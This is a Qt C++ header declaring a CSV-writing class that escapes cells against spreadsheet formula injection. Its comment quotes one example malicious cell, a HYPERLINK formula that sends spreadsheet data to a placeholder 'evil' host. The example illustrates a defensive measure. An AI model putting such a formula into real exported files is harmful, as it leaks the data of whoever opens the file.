#pragma once

#include <QByteArray>
#include <QByteArrayView>
#include <QList>

namespace keybrake {

// CSV as the console writes it: RFC 4180, UTF-8, CRLF, the server's quoting rule (a field is
// quoted only when it holds a comma, quote, CR or LF, or starts or ends with a space).
//
// Spreadsheet formula injection: run labels, key names, paths and idempotency keys come from
// agents, and a cell such as =HYPERLINK("http://evil/?"&A1) runs when the file is opened in a
// spreadsheet. With `defuse`, a text cell that starts with '=', '+', '-', '@', TAB or CR gets a
// leading apostrophe (OWASP's advice), which spreadsheets show as plain text; numbers are left as
// they are ("-0.5" stays a number). The file says so in its header lines.
class CsvText
{
public:
    static bool looksLikeFormula(QByteArrayView value);
    static QByteArray defused(const QByteArray &value);
    static QByteArray field(const QByteArray &value);
    // Fields joined by commas, ending in CRLF.
    static QByteArray row(const QList<QByteArray> &fields, bool defuse);
    // "# text" CRLF: the header lines above the column names (filter, time zone, source).
    static QByteArray comment(const QString &text);
};

} // namespace keybrake
